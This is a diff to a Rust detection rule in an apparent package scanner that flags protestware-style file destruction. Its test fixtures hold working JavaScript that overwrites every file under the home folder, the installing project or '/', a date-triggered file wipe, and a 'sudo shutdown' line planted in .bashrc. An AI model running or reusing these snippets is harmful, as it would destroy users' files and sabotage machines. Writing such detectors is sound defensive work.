@@ -8,7 +8,8 @@ crate::declare_rule! {
     /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
     /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
     /// every file found while walking parent directories (in a bundle, with the parent named
-    /// near the walk), a planted command (`shutdown -h`, `rm -rf`, a `curl`/`wget` download, a
+    /// near the walk) or the installing project or the home folder (with one fixed text and no
+    /// file read first), a planted command (`shutdown -h`, `rm -rf`, a `curl`/`wget` download, a
     /// pipe into `sh`) written to a shell rc file with the file's path and the command around
     /// the write, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
     id: "destructive-fs",
@@ -23,9 +24,14 @@ crate::declare_rule! {
            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
-           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
+           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
+           "const { readdir, writeFile } = require('fs/promises'); const MSG = 'Peace.'; async function w(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) await w(p); else await writeFile(p, MSG) } } w(os.homedir())",
+           "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
+           // a codemod reads every file it rewrites; a scaffolder drops empty placeholders
+           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace(/var /g, 'let ')) } }; w(process.cwd())",
+           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) { fs.writeFileSync(path.join(p, '.gitkeep'), ''); w(p) } } }; w(process.cwd())",
            // vite 5.2.10: lists directories in one function, writes a fixed package.json into
            // its cache in another, and names '..' elsewhere; no walk overwrites anything
            "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
@@ -83,6 +89,14 @@ fn parent_near(f: &crate::package::FileCtx, js: &crate::js::JsFacts, off: u32) -
             .derived
             .iter()
             .any(|(d, o)| (lo..hi).contains(&(*o as usize)) && d.starts_with(".."))
+}
+
+/// Whether a call is `fs.<name>…` of node's fs module, callback or promise API (`fs.promises.`,
+/// `fs/promises.`).
+fn fs_call(path: &str, name: &str) -> bool {
+    ["fs.", "fs.promises.", "fs/promises."]
+        .iter()
+        .any(|p| path.strip_prefix(p).is_some_and(|r| r.starts_with(name)))
 }
 
 /// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
@@ -185,7 +199,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let listings: Vec<u32> = js
             .calls
             .iter()
-            .filter(|c| c.path.starts_with("fs.readdir"))
+            .filter(|c| fs_call(&c.path, "readdir"))
             .map(|c| c.off)
             .collect();
         let in_walk = |off: u32| {
@@ -197,7 +211,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let writes = js
             .calls
             .iter()
-            .find(|c| c.path.starts_with("fs.writeFile") && in_walk(c.off));
+            .find(|c| fs_call(&c.path, "writeFile") && in_walk(c.off));
         // Each finding below needs `writes` or `overwrites` (a write inside a walk, which
         // `overwrites` narrows): without one, skip the searches of the text that follow.
         if writes.is_none() {
@@ -212,7 +226,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         // A recursive walk from above the project that overwrites what it finds with constant
         // content (node-ipc 10.1.1 and its locale-keyed imitators).
         let overwrites = js.calls.iter().find(|c| {
-            c.path.starts_with("fs.writeFile")
+            fs_call(&c.path, "writeFile")
                 && c.arg_lit(1).is_some()
                 && c.arg_lit(0).is_none()
                 && in_walk(c.off)
@@ -221,7 +235,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let recursive = js
             .calls
             .iter()
-            .filter(|c| c.path.starts_with("fs.readdir"))
+            .filter(|c| fs_call(&c.path, "readdir"))
             .count()
             >= 1
             && (text.contains("isDirectory") || text.contains("withFileTypes"));
@@ -253,6 +267,24 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 f,
                 w.off,
                 "walks directories from above the project and overwrites every file with fixed content",
+            );
+            continue;
+        }
+        // The same walk started at the project that installs the package (`INIT_CWD`, the
+        // working directory) or at the home folder, overwriting every file with one fixed,
+        // non-empty text and never reading a file first: a code formatter or codemod reads what
+        // it rewrites, and a generator writing empty placeholders writes nothing of its own.
+        let project = text.contains("INIT_CWD")
+            || text.contains("process.cwd()")
+            || js.calls.iter().any(|c| c.path == "os.homedir");
+        let reads = js.calls.iter().any(|c| fs_call(&c.path, "readFile"));
+        let fixed_text = overwrites.filter(|c| c.arg_lit(1).is_some_and(|l| !l.trim().is_empty()));
+        if let (true, true, false, Some(w)) = (walks && recursive, project, reads, fixed_text) {
+            out.hit(
+                pkg,
+                f,
+                w.off,
+                "walks the installing project or the home folder and overwrites every file with fixed content",
             );
             continue;
         }
